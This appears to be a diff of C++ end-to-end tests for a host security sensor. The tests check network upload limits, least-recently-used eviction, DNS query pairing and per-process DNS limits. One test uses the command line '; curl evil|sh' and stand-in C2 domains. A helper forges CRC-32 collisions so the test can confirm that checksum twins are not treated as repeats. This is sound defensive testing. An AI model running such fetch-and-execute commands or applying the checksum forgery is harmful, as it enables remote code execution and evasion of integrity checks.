@@ -23,9 +23,12 @@
 #include "net/net.h"
 #include "net/net_event.h"
 #include "proc_bytes.h"
+#include "qxkiv/digest.h"
 #include "qxkiv/kemu.h"
+#include "qxkiv/process_query.h"
 #include "qxkiv/qxkiv.h"
 #include "staged_tree.h"
+#include "test_io.h"
 #include "startup/startup.h"
 
 namespace {
@@ -208,6 +211,7 @@ struct NetE2E : ::testing::Test {
     void start(const std::string &keys = "") {
         staged_tree::set_keys(tree.net_conf(), keys);
         for (uint32_t i = NET_TOTAL_CAP; i <= NET_DNSA_PARSE_FAIL; i++) g_usensor_stats[i] = 0;
+        for (uint32_t i = NET_TOTAL_LRU_EVICT; i <= NET_LIMIT_NOTICE; i++) g_usensor_stats[i] = 0;
         kiv_timer_set_source(fake_clock);
         ASSERT_TRUE(host_start(capture, fixed_header));
         ASSERT_EQ(inject_root_process(300, 5300, "/usr/bin/client --go", "/nonexistent/client"),
@@ -365,7 +369,8 @@ TEST_F(NetE2E, RepeatsMergedWithinTheIntervalAndSentAgainAfter) {
 TEST_F(NetE2E, PerDestinationAndTotalCaps) {
     start(
         "single_net_upload_limit = 2\nnet_total_hash_increase_gap = 2\n"
-        "net_total_hash_size = 4\nnet_total_upload_limit = 7\nnet_total_rebuild_cycle = 120\n");
+        "net_total_hash_size = 4\nnet_total_upload_limit = 7\nnet_total_rebuild_cycle = 120\n"
+        "net_total_lru = 0\n");
     conn_rec u;
     u.type = 5, u.proto = 17, u.dport = 9999;
     auto send = [&](const std::string &sip, const std::string &dip, uint16_t dport = 9999) {
@@ -480,14 +485,21 @@ TEST_F(NetE2E, ScanRecordsLimitedAndOrdinaryResetsFiltered) {
     ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_SCAN_CAP) >= 6; }));
     std::this_thread::sleep_for(std::chrono::milliseconds(100));
     EXPECT_EQ(count(UPLOAD_NET_SCAN), 1u);
-    // 20 scan records a second at most.
-    advance(1000);
-    for (uint16_t p = 1; p <= 25; p++)
-        inject(build_rst(0, 0, "198.51.100.67", 60000, "10.0.0.5", p));
-    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_SCAN_CAP) >= 31; }));
-    std::this_thread::sleep_for(std::chrono::milliseconds(100));
-    EXPECT_EQ(count(UPLOAD_NET_SCAN), 21u);
-    EXPECT_EQ(kiv_stat_get(NET_SCAN_SPEED_LIMIT), 5);
+    // 20 scan records a second at most, per peer with netscan_per_peer; off, for all peers.
+    for (uint32_t per_peer : {1u, 0u}) {
+        advance(1000);
+        g_net_config.netscan_per_peer = per_peer;
+        const size_t before = count(UPLOAD_NET_SCAN);
+        const int64_t seen = kiv_stat_get(NET_SCAN_CAP);
+        for (uint16_t p = 1; p <= 25; p++)
+            inject(build_rst(0, 0, "198.51.100.67", 60000, "10.0.0.5", p));
+        inject(build_rst(0, 0, "198.51.100.68", 60000, "10.0.0.5", 1));  // another peer
+        ASSERT_TRUE(wait_for([&] { return kiv_stat_get(NET_SCAN_CAP) >= seen + 26; }));
+        std::this_thread::sleep_for(std::chrono::milliseconds(100));
+        EXPECT_EQ(count(UPLOAD_NET_SCAN) - before, per_peer ? 21u : 20u);
+    }
+    EXPECT_EQ(kiv_stat_get(NET_SCAN_SPEED_LIMIT), 11);
+    EXPECT_EQ(kiv_stat_get(NET_SCAN_PEER_LIMIT), 5);
     // A reset against a connect still waiting for its establishment is a scan.
     advance(1000);
     conn_rec c;
@@ -495,7 +507,7 @@ TEST_F(NetE2E, ScanRecordsLimitedAndOrdinaryResetsFiltered) {
     inject(build_conn(c));
     ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_CONNECT_CAP) >= 1; }));
     inject(build_rst(0, 1, "198.51.100.70", 22, "10.0.0.5", 45000));
-    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_SCAN) == 22; }));
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_SCAN) == 42; }));
 }
 
 TEST_F(NetE2E, RecordsOfAProcessThatIsGoneAskForItOnce) {
@@ -522,7 +534,7 @@ TEST_F(NetE2E, RecordsOfAProcessThatIsGoneAskForItOnce) {
 }
 
 TEST_F(NetE2E, ShortRecordsAndFullTables) {
-    start("tcp_connect_hash_size = 1\ndns_query_hash_size = 1\n");
+    start("tcp_connect_hash_size = 1\ndns_query_hash_size = 1\ndns_pair_by_name = 0\n");
     conn_rec a;
     a.type = 7;
     bytes cut = build_conn(a);
@@ -558,6 +570,243 @@ TEST_F(NetE2E, ShortRecordsAndFullTables) {
     inject(build_conn(q));
     std::this_thread::sleep_for(std::chrono::milliseconds(100));
     EXPECT_EQ(kiv_stat_get(NET_DNSQ_CAP), 2);
+}
+
+// Four bytes that, appended to text, give it the CRC-32 want (the table's top bytes differ,
+// so the last four table indices follow from want alone).
+std::string crc_twin(const std::string &text, uint32_t want) {
+    uint32_t t[256];
+    for (uint32_t i = 0; i < 256; i++) {
+        uint32_t c = i;
+        for (int k = 0; k < 8; k++) c = c & 1 ? 0xEDB88320u ^ (c >> 1) : c >> 1;
+        t[i] = c;
+    }
+    uint8_t idx[4];
+    uint32_t f = ~want;
+    for (int k = 3; k >= 0; k--) {
+        for (uint32_t j = 0; j < 256; j++)
+            if (t[j] >> 24 == f >> 24) idx[k] = (uint8_t)j;
+        f = (f ^ t[idx[k]]) << 8;
+    }
+    uint32_t reg = ~mordek_crc32(text.data(), text.size());
+    std::string out = text;
+    for (uint8_t j : idx) {
+        out += (char)((reg ^ j) & 0xff);
+        reg = (reg >> 8) ^ t[j];
+    }
+    return out;
+}
+
+// A checksum twin is never a repeat; with repeat_key_full neither is a longer command or
+// another user's, while off only the first 171 characters count, as they always did.
+TEST_F(NetE2E, RepeatKeysMatchOnTheirTextNotOnAChecksum) {
+    start();
+    const std::string honest = "update.example.test";
+    std::string twin;
+    for (int i = 0; twin.empty() || twin.find('\0') != std::string::npos; i++)
+        twin = crc_twin("c2-" + std::to_string(i) + ".evil.test.",
+                        mordek_crc32(honest.data(), honest.size()));
+    ASSERT_EQ(mordek_crc32(twin.data(), twin.size()), mordek_crc32(honest.data(), honest.size()));
+    process_st_public p{};
+    snprintf(p.md5, sizeof p.md5, "%s", std::string(32, 'a').c_str());
+    const std::string prefix(171, 'x');
+    snprintf(p.cmd_line, sizeof p.cmd_line, "%s", (prefix + "; echo benign").c_str());
+    net_info n{};
+    snprintf(n.sip, sizeof n.sip, "10.0.0.5");
+    snprintf(n.dip, sizeof n.dip, "10.0.0.53");
+    n.dport = 53;
+    for (uint32_t full : {0u, 1u}) {
+        SCOPED_TRACE(full);
+        g_net_config.repeat_key_full = full;
+        n.sport = 0, n.dport = 53 + full;  // each round its own entries
+        EXPECT_EQ(check_send_time(&p, &n, honest.c_str()), 0);
+        EXPECT_EQ(check_send_time(&p, &n, honest.c_str()), -1);
+        const int64_t twins = kiv_stat_get(NET_REPEAT_KEY_MISMATCH);
+        EXPECT_EQ(check_send_time(&p, &n, twin.c_str()), 0);
+        EXPECT_GT(kiv_stat_get(NET_REPEAT_KEY_MISMATCH), twins);
+        // The same first 171 characters, another command after them; then another user.
+        process_st_public other = p;
+        snprintf(other.cmd_line, sizeof other.cmd_line, "%s", (prefix + "; curl evil|sh").c_str());
+        EXPECT_EQ(check_send_time(&other, &n, honest.c_str()), full ? 0 : -1);
+        other = p;
+        other.ids[0] = other.ids[1] = 65534;
+        EXPECT_EQ(check_send_time(&other, &n, honest.c_str()), full ? 0 : -1);
+        // Looking a key up does not remember it.
+        EXPECT_EQ(send_time_check(&p, &n, "peek.example.test", false), 0);
+        EXPECT_EQ(check_send_time(&p, &n, "peek.example.test"), 0);
+    }
+}
+
+// Under net_total_lru a full destination table forgets its least recently used entry, and
+// the cycle's total still counts what the forgotten ones sent. 12100 destinations against
+// the shipped sizes, filled over eleven minute checks, leave room for root's next one; off,
+// that one is refused.
+TEST_F(NetE2E, FullDestinationTableForgetsTheLeastRecentlyUsed) {
+    start("net_total_upload_limit = 1000000\n");
+    ASSERT_EQ(g_net_config.net_total_hash_size, 10240u);
+    net_info n{};
+    n.dport = 8080;
+    auto dest = [&n](uint32_t i) {
+        snprintf(n.dip, sizeof n.dip, "127.%u.%u.%u", 1 + i / 65536, (i / 256) % 256, i % 256);
+        return &n;
+    };
+    auto upload = [&](uint32_t i) {
+        if (check_net_cnt(dest(i)) != 0) return false;
+        inc_net_total_hash(&n);
+        return true;
+    };
+    for (uint32_t lru : {0u, 1u}) {
+        SCOPED_TRACE(lru);
+        g_net_config.net_total_lru = lru;
+        net_cnt_timer_func(7200);  // rebuild
+        uint32_t refused = 0;
+        for (uint32_t minute = 1, i = 0; minute <= 11; minute++) {
+            for (uint32_t k = 0; k < 1100; k++, i++) refused += !upload(i);
+            net_cnt_timer_func(60 * minute);
+        }
+        EXPECT_EQ(g_net_config.net_cnt_hash_limit, 10240u);
+        EXPECT_EQ(g_net_conext.net_total_hash->count, 10240u);
+        EXPECT_EQ(upload(999999), lru == 1);  // root's new destination
+        EXPECT_EQ(refused > 0, lru == 0);
+    }
+    EXPECT_EQ(kiv_stat_get(NET_TOTAL_LRU_EVICT), 12100 + 1 - 10240);
+
+    // Recency, not age: the destination used again stays, the idle one goes.
+    g_net_config.net_cnt_hash_limit = g_net_config.net_total_hash_increase_gap = 2;
+    g_net_config.net_total_upload_limit = 6;
+    net_cnt_timer_func(7200);
+    ASSERT_TRUE(upload(1) && upload(2) && upload(1));
+    ASSERT_TRUE(upload(3));               // forgets 2
+    EXPECT_TRUE(upload(1) && upload(2));  // 2 is new again, forgets 3
+    g_net_config.single_net_upload_limit = 3;
+    EXPECT_FALSE(upload(1));  // 1 kept its three uploads
+    // Six uploads counted, two of them by forgotten destinations: the cycle's total is met.
+    net_cnt_timer_func(60);
+    EXPECT_EQ(g_net_stop_upload.load(), 1);
+    net_limit_minute();
+    ulog_save_once();
+    std::string log = tree.read("logs/sensor_all.log");
+    EXPECT_TRUE(has(log,
+                    "limit: destinations forgotten to make room, least recently used first: "
+                    "net_total_hash, "))
+        << log;
+    EXPECT_TRUE(has(log,
+                    "limit: connection documents dropped by the destination limits: "
+                    "destination 127.1.0.1:8080 over 3 this cycle, 1 in the last minute"));
+}
+
+bytes dns_answer(uint16_t id, const std::string &name, uint8_t last) {
+    bytes m = {(uint8_t)(id >> 8), (uint8_t)id, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0};
+    for (size_t at = 0; at <= name.size();) {
+        size_t dot = std::min(name.find('.', at), name.size());
+        m.push_back((uint8_t)(dot - at));
+        m.insert(m.end(), name.begin() + (long)at, name.begin() + (long)dot);
+        at = dot + 1;
+    }
+    const uint8_t rest[] = {0, 0, 1, 0,  1, 0xC0, 12,  0, 1, 0,   1,
+                            0, 0, 0, 60, 0, 4,    192, 0, 2, last};
+    m.insert(m.end(), rest, rest + sizeof rest);
+    return m;
+}
+
+// Two queries back to back on one socket: by name each pairs with its own answer, or goes
+// out alone after its time-out; off, the second replaces the first. A query the full table
+// cannot hold goes out at once.
+TEST_F(NetE2E, SecondQueryOnOneSocketNeverHidesTheFirst) {
+    start("dns_query_hash_size = 2\n");
+    conn_rec q;
+    q.type = 10, q.proto = 6, q.sip = "127.0.0.1", q.sport = 42000, q.dip = "127.0.0.1";
+    q.dport = 53;
+    auto ask = [&](const std::string &name) {
+        q.dns_name = name, q.type = 10;
+        inject(build_conn(q));
+    };
+    auto answer = [&](const std::string &name, uint8_t last) {
+        conn_rec r = q;
+        r.type = 11, r.dns_name.clear(), r.dns_msg = dns_answer(7, name, last);
+        inject(build_conn(r));
+    };
+    auto names = [] {
+        std::string out;
+        for (auto &d : docs(UPLOAD_DNS_QUERY))
+            out += value_of(d, "query_name") + "=" + value_of(d, "query_results") + " ";
+        return out;
+    };
+    ask("c2.evil.test");
+    ask("decoy.example.test");
+    ASSERT_TRUE(wait_for([] { return pending_queries() == 2; }));
+    answer("decoy.example.test", 1);
+    answer("c2.evil.test", 2);
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 2; })) << names();
+    EXPECT_EQ(names(), "decoy.example.test=192.0.2.1 c2.evil.test=192.0.2.2 ");
+    // Unanswered, each goes out after its time-out; a third finds the table full and goes
+    // out at once, still reported as sent.
+    g_net_config.upload_time_interval = 0;  // the first round's names are no repeats
+    ask("c2.evil.test");
+    ask("decoy.example.test");
+    q.sport = 42001;
+    ask("third.evil.test");
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 3; })) << names();
+    EXPECT_EQ(kiv_stat_get(NET_DNSQ_FULL_SENT), 1);
+    advance(8000);
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 5; })) << names();
+    EXPECT_TRUE(has(names(), "c2.evil.test=127.0.0.1 ")) << names();
+
+    // Off: the second replaces the first, which is counted as merged.
+    host_stop();
+    start("dns_pair_by_name = 0\n");
+    q.sport = 42002;
+    ask("c2.evil.test");
+    ask("decoy.example.test");
+    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_DNSQ_UPLOAD_MERGE) == 1; }));
+    answer("c2.evil.test", 2);
+    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_DNSA_PARSE_FAIL) == 1; }));
+    advance(8000);
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 1; }));
+    EXPECT_EQ(names(), "decoy.example.test=127.0.0.1 ");
+}
+
+// DNS documents are limited per process and minute: the flooding process loses its own,
+// told once per minute; another process keeps its; a dropped query is not remembered as
+// sent. With the key at 0 nothing is limited.
+TEST_F(NetE2E, DnsDocumentsLimitedPerProcess) {
+    start("dns_upload_per_proc = 3\n");
+    ASSERT_EQ(inject_root_process(301, 5301, "/usr/bin/other", "/nonexistent/other"), KEMU_OK);
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_PROC_EXEC) == 1; }));
+    conn_rec q;
+    q.type = 10, q.proto = 6, q.dport = 53;
+    auto flood = [&](uint32_t pid, int n, const std::string &tag) {
+        q.pid = pid, q.create_time = 5000 + pid;
+        for (int i = 0; i < n; i++) {
+            q.sport = (uint16_t)(43000 + pid * 10 + i);
+            q.dns_name = tag + std::to_string(i) + ".test";
+            inject(build_conn(q));
+        }
+    };
+    flood(300, 5, "flood");
+    flood(301, 2, "other");
+    ASSERT_TRUE(wait_for([] { return pending_queries() == 7; }));
+    advance(8000);
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 5; }));
+    EXPECT_EQ(kiv_stat_get(NET_DNS_PROC_LIMIT), 2);
+    size_t other = 0;
+    for (auto &d : docs(UPLOAD_DNS_QUERY)) other += value_of(d, "process_id") == "301";
+    EXPECT_EQ(other, 2u);
+    net_limit_minute();
+    ulog_save_once();
+    EXPECT_TRUE(has(tree.read("logs/sensor_all.log"),
+                    "limit: DNS documents dropped by the per-process limit: process 300 of user "
+                    "root (uid 0) /nonexistent/client over 3 a minute, 2 in the last minute"));
+    EXPECT_EQ(kiv_stat_get(NET_LIMIT_NOTICE), 1);
+    // A new minute: the dropped names go out now, so they were not taken as sent.
+    flood(300, 5, "flood");
+    advance(8000);
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 7; }));
+    g_net_config.dns_upload_per_proc = 0;
+    flood(300, 8, "more");
+    advance(8000);
+    ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 15; }));
+    EXPECT_EQ(kiv_stat_get(NET_DNS_PROC_LIMIT), 2);
 }
 
 }  // namespace
